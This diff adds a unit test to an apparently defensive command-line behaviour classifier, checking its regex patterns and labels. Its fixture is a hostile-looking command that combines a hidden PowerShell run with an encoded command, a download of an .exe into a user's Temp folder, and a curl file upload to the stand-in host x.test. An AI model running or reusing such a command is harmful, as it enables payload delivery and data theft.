@@ -36,6 +36,20 @@ def test_attacks_get_the_words_for_what_they_do(text):
     assert ATTACKS[text] <= words, (text, words)
 
 
+def test_behaviour_patterns_spell_only_lowercase_letters_as_they_match_the_lowercased_line():
+    """The patterns run without re.I on ``line.lower()``: an uppercase letter in one would never match."""
+    import re
+
+    for name, rx in cmdline._PATTERNS + cmdline._PATH_CLASSES:
+        assert not rx.flags & re.I, name
+        literal = re.sub(r"\[[^\]]*\]", "", re.sub(r"\\.", "", rx.pattern))  # escapes and classes aside
+        assert literal == literal.lower(), name
+    # mixed case still gets its words, as under re.I
+    assert {"swfdownload", "swfencoded", "swfhidden", "swfpathtemp", "swfexfil"} <= set(cmdline.behaviour(
+        'PowerShell -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA= ; Invoke-WebRequest x -OutFile '
+        'C:\\Users\\Bob\\AppData\\Local\\Temp\\a.exe; curl -F f=@a https://x.test/u'))
+
+
 def test_everyday_commands_get_only_their_program():
     for text, prog in (("ls -la /tmp", "ls"), ("git log --oneline -20", "git"), ("kubectl get pods -n web", "kubectl"),
                        ('"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer', "chrome")):
